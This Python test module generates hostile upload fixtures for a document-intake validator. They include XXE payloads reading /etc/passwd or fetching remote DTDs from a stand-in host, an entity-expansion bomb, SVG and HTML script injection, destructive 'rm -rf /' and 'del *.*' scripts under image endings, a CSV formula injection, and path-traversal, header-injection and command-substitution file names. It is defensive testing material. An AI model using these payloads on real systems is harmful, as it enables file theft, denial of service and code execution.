"""Texts that do something, contents under a wrong ending, noise, and names that mean something to a system."""

import gzip
from collections.abc import Iterator
from itertools import product
from random import Random
from typing import Final

from tests.evidence import papers
from tests.faults.hostile import STRICT, Expected, Hostile
from tests.faults.hostile_packed import office, old, packed

XML: Final = b'<?xml version="1.0"?>'
LAUGH: Final = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
TEXTS: Final = {
    "xxe": XML + b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "xxe-mang": XML + b'<!DOCTYPE a SYSTEM "http://vi-du.example/a.dtd"><a/>',
    "xxe-tham-so": XML + b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://vi-du.example/a">%b;]><a/>',
    "cuoi": XML + b'<!DOCTYPE a [<!ENTITY l0 "ha">' + LAUGH + b"]><a>&l9;</a>",
    "binh-phuong": XML + b'<!DOCTYPE a [<!ENTITY b "' + b"a" * 50_000 + b'">]><a>' + b"&b;" * 50_000 + b"</a>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg-onload": XML + b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg-xa": XML + b"<!--" + b" " * 2_000 + b'--><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg-tien-to": XML + b"<!--" + b" " * 2_000 + b'--><s:svg xmlns:s="http://www.w3.org/2000/svg"/>',
    "xhtml": XML + b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "xhtml-xa": XML + b" " * 2_000 + b'<x><a:script xmlns:a="http://www.w3.org/1999/xhtml">1</a:script></x>',
    "html": b"<!doctype html><script>alert(1)</script>",
    "html-hoa": b"<HTML><BODY ONLOAD=alert(1)>",
    "html-cach": b"\n\n   \t<script>alert(1)</script>",
    "html-bom": b"\xef\xbb\xbf<html>",
    "html-than": b"xin chao <body onload=alert(1)>",
    "hong": XML + b"<a><b></a>",
    "dang-do": XML + b"<a>",
    "rong": XML,
}
PROGRAMS: Final = {
    "exe": b"MZ" + bytes(200),
    "elf": b"\x7fELF" + bytes(200),
    "sh": b"#!/bin/sh\nrm -rf /\n",
    "zip": packed({"a.txt": b"1"}),
    "gz": gzip.compress(b"a", mtime=0),
    "rar": b"Rar!\x1a\x07\x01\0" + bytes(50),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
    "gif": b"GIF89a" + bytes(50),
    "bmp": b"BM" + bytes(100),
    "heic": b"\0\0\0\x18ftypheic" + bytes(50),
    "mp4": b"\0\0\0\x18ftypisom" + bytes(50),
    "ico": b"\0\0\1\0" + bytes(50),
    "psd": b"8BPS\0\1" + bytes(50),
    "class": b"\xca\xfe\xba\xbe\0\0" + bytes(50),
    "wasm": b"\0asm\1\0\0\0" + bytes(50),
    "sqlite": b"SQLite format 3\0" + bytes(90),
    "nul": bytes(2_000),
}
UNSIGNED: Final = {
    "docx": office("docx"),
    "xlsx": office("xlsx"),
    "doc": old("WordDocument"),
    "txt": "Đã niêm yết đủ.".encode(),
    "csv": b"a;b\n=cmd|' /C calc'!A0;1\n",
    "rtf": b"{\\rtf1\\object}",
    "ps": b"%!PS-Adobe\n(/etc/passwd) run",
    "js": b"alert(1)",
    "bat": b"@echo off\r\ndel *.*",
    "eml": b"From: a\r\nSubject: b\r\n\r\n",
}
ENDINGS: Final = ("jpg", "png", "pdf", "tif")
MAGIC: Final = {
    "jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "tif": b"II*\0\x08\0\0\0",
    "webp": b"RIFF\x00\x10\0\0WEBPVP8 ",
    "pdf": b"%PDF-1.7\n",
    "docx": b"PK\x03\x04",
}
NAMES: Final = (
    "../../etc/passwd",
    "..\\..\\Windows\\a.jpg",
    "/etc/cron.d/a",
    "C:\\Windows\\a.jpg",
    "a\0.jpg",
    "a.exe\0.jpg",
    "a\u202egpj.exe",
    "\u2066a\u2069.jpg",
    "a\u200f.jpg",
    "a" * 300 + ".jpg",
    "ă" * 300 + ".jpg",
    "a." + "b" * 300,
    "." * 300,
    "a\r\nSet-Cookie: x=1.jpg",
    'a"; filename="b.exe',
    "<script>alert(1)</script>.jpg",
    "=HYPERLINK(1).jpg",
    "a.jpg/",
    "a.jpg:b",
    "CON",
    "NUL.jpg",
    "-rf",
    "~",
    "%2e%2e%2fa",
    "\ufeffa.jpg",
    "a\u0301\u0301\u0301.jpg",
    "\ud800.jpg",
    "\x1b[2J.jpg",
    "a.jpg ",
    "a.jpg.",
    "   ",
    "..",
    ".",
    "",
    "\n",
    "a\tb.jpg",
    "|id",
    "$(id).jpg",
    "`id`.jpg",
    "a'b.jpg",
    "😀" * 100,
    "a\u2028b.jpg",
)


def texts(_: Random) -> Iterator[Hostile]:
    """Refused by every programme, in the letters of today and in those of UTF-16, where they can be read."""
    for name, content in TEXTS.items():
        yield Hostile(f"{name}.xml", content)
        yield Hostile(f"{name}.pdf", content, rules=STRICT)
    for name in ("svg", "html", "html-hoa", "xhtml"):
        yield Hostile(f"{name}-16.xml", TEXTS[name].decode().encode("utf-16"))
    yield Hostile("sau.xml", XML + b"<a>" * 1_000_000 + b"</a>" * 1_000_000, Expected.READABLE)
    yield Hostile(
        "thuoc-tinh.xml", XML + b"<a " + b" ".join(b'a%d=""' % n for n in range(300_000)) + b"/>", Expected.READABLE
    )


def wrong_endings(_: Random) -> Iterator[Hostile]:
    """What never is evidence, refused by every programme, and what is not where papers or signatures are asked for."""
    for (name, content), ending in product(PROGRAMS.items(), ENDINGS):
        yield Hostile(f"{name}.{ending}", content)
    for (name, content), ending in product(UNSIGNED.items(), ENDINGS):
        yield Hostile(f"{name}.{ending}", content, rules=STRICT)


def noise(chance: Random) -> Iterator[Hostile]:
    for (name, head), number in product(MAGIC.items(), range(10)):
        yield Hostile(f"{number}.{name}", head + chance.randbytes(chance.randrange(10, 20_000)), rules=STRICT)
    for number in range(20):
        yield Hostile(f"{number}.bin", chance.randbytes(chance.randrange(1, 5_000)), rules=STRICT)


def names(_: Random) -> Iterator[Hostile]:
    """An honest picture under a name that is none: what is shown is the picture, by the name that is left."""
    content = papers.image("PNG", width=60, height=80)
    yield from (Hostile(name, content, Expected.PICTURE) for name in NAMES)


FAMILIES: Final = {"texts": texts, "wrong-endings": wrong_endings, "noise": noise, "names": names}
